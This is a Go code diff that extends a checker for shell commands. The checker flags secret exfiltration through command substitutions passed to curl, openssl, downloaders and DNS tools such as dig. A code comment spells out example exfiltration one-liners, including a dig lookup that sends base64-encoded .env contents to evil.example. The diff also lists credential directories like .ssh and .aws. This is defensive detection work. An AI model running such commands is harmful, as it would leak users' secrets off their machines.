@@ -57,7 +57,7 @@ func (ck *checker) stdinSecret(c shellparse.SimpleCommand) bool {
 		}
 	}
 	for _, r := range c.Redirects {
-		if (r.Op == "<" || r.Op == "<>") && (r.Fd == "" || r.Fd == "0") && ck.secretWord(r.Target, true) {
+		if (r.Op == "<" || r.Op == "<>") && (r.Fd == "" || r.Fd == "0") && (ck.secretWord(r.Target, true) || (r.Target.ProcSubst || r.Target.Subst) && ck.substCarriesSecret(r.Target)) {
 			return true
 		}
 	}
@@ -121,10 +121,10 @@ func (ck *checker) secretWord(w shellparse.Word, dirs bool) bool {
 				cand = ck.v.env.Home
 			}
 			g := glob || hasGlob(cand)
-			if ck.secretPath(cand, g) || !g && ck.secretCopies[ck.resolve(cand)] {
+			if ck.secretPath(cand, g) || !g && ck.secretCopies != nil && ck.secretCopies[ck.resolve(cand)] {
 				return true
 			}
-			if dirs && !g && secretDir(ck.resolve(cand)) {
+			if dirs && !g && secretDirBase[path.Base(strings.TrimSuffix(cand, "/"))] && secretDir(ck.resolve(cand)) {
 				return true
 			}
 		}
@@ -146,6 +146,17 @@ func (ck *checker) exfil(c shellparse.SimpleCommand) {
 	base := path.Base(c.Name)
 	args := c.Argv[1:]
 	stdin := ck.stdinSecret(c)
+	sender := exfilSenders[base] && (base != "openssl" || firstOperand(args) == "s_client")
+	if sender || downloaders[base] || dnsTools[base] {
+		// curl -d "$(cat .env)" URL, dig "$(base64 < .env).evil.example": a
+		// substitution that carries a secret into what the program sends.
+		for _, a := range args {
+			if (a.Subst || a.ProcSubst) && ck.substCarriesSecret(a) {
+				ck.add("exfiltration", Severe, base+" sends "+clip(a.Text)+", which carries a secret, off the machine")
+				return
+			}
+		}
+	}
 	switch base {
 	case "curl":
 		ck.curlExfil(args, stdin)
@@ -192,7 +203,7 @@ func (ck *checker) exfil(c shellparse.SimpleCommand) {
 			}
 		}
 	}
-	if exfilSenders[base] && (base != "openssl" || opensslConnects(args)) {
+	if sender && (base != "openssl" || opensslConnects(args)) {
 		if stdin {
 			ck.add("exfiltration", Severe, base+" sends what it reads, which holds secrets, off the machine")
 			return
@@ -579,3 +590,21 @@ func opensslConnects(args []shellparse.Word) bool {
 	ops := operands(args)
 	return len(ops) == 0 || !ops[0].Static || ops[0].Text == "s_client" || ops[0].Text == "s_time"
 }
+
+// dnsTools send the names they are given to name servers and hosts.
+var dnsTools = map[string]bool{"dig": true, "nslookup": true, "host": true, "ping": true, "ping6": true, "traceroute": true, "drill": true, "kdig": true}
+
+// substCarriesSecret reports a word whose command substitution runs a command
+// that reads a secret or prints the environment.
+func (ck *checker) substCarriesSecret(w shellparse.Word) bool {
+	for j := 0; j < ck.index && j < len(ck.res.Commands); j++ {
+		inner := ck.res.Commands[j]
+		if inner.Subst != "" && ck.secretOut[j] && inner.Source != "" && strings.Contains(w.Text, inner.Source) {
+			return true
+		}
+	}
+	return false
+}
+
+// secretDirBase are the last names of secretDirs, a cheap first test.
+var secretDirBase = map[string]bool{".ssh": true, ".aws": true, ".kube": true, ".docker": true, "gh": true, "gcloud": true, ".azure": true, ".gnupg": true, ".password-store": true, "~": false}
